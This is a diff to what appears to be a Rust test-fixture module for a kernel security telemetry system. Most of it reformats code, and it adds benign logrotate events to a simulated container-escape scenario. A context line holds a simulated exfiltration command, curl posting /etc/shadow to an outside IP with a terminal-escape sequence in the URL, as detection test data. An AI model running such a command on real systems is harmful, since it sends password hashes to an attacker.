@@ -3,7 +3,9 @@
 use std::sync::Arc;
 
 use kerntrail_schemas::cell::Micros;
-use kerntrail_schemas::identity::{BootHash, BootId, ContainerId, FindingId, PodUid, ProcessUid, RuleId, StreamId, event_id};
+use kerntrail_schemas::identity::{
+    BootHash, BootId, ContainerId, FindingId, PodUid, ProcessUid, RuleId, StreamId, event_id,
+};
 use kerntrail_schemas::tables::{
     Actor, Envelope, FileColumns, FindingColumns, KernelColumns, LossColumns, NetworkColumns, ProcessColumns,
 };
@@ -113,14 +115,25 @@ impl Node {
         self.process_event(millis, "exec", process, own)
     }
 
-    pub(crate) fn process_event(&mut self, millis: i64, activity: &str, process: &Process, own: ProcessColumns) -> String {
+    pub(crate) fn process_event(
+        &mut self,
+        millis: i64,
+        activity: &str,
+        process: &Process,
+        own: ProcessColumns,
+    ) -> String {
         let envelope = self.envelope(millis, activity);
         self.rows.process.append(&envelope, Some(&Arc::new(process.0.clone())), &own);
         self.event_ref("process_events", &envelope)
     }
 
     pub(crate) fn exit(&mut self, millis: i64, process: &Process, code: i32) {
-        self.process_event(millis, "exit", process, ProcessColumns { exit_code: Some(code), ..ProcessColumns::default() });
+        self.process_event(
+            millis,
+            "exit",
+            process,
+            ProcessColumns { exit_code: Some(code), ..ProcessColumns::default() },
+        );
     }
 
     pub(crate) fn kernel(&mut self, millis: i64, activity: &str, process: &Process, own: KernelColumns) -> String {
@@ -261,6 +274,8 @@ pub(crate) fn escape() -> Node {
     unprivileged_pod(&mut node, &shim);
     let mut cron = node.host_process(5000, 2_700, Some(&init));
     node.exec(2_700, &mut cron, &["/usr/sbin/cron"], ProcessColumns::default());
+    node.exec(2_705, &mut cron, &["/bin/sh", "-c", "logrotate"], ProcessColumns::default());
+    node.exec(2_710, &mut cron, &["/usr/sbin/logrotate"], ProcessColumns::default());
     node
 }
 
@@ -328,7 +343,8 @@ fn privileged_pod(node: &mut Node, shim: &Process) {
     let mut curl = node.fork(4_000, &bash, 4209);
     curl.leave_cgroup();
     node.exec(4_001, &mut curl, &["/usr/bin/curl", "-d", "@/etc/shadow", "https://198.51.100.7/\x1b[2J"], plain());
-    let out = node.network(4_050, "connect", &curl, NetworkColumns { ret: Some(-115), ..flow(43_122, "198.51.100.7", 443) });
+    let out =
+        node.network(4_050, "connect", &curl, NetworkColumns { ret: Some(-115), ..flow(43_122, "198.51.100.7", 443) });
     let closed = NetworkColumns {
         bytes_out: Some(2_048),
         bytes_in: Some(312),
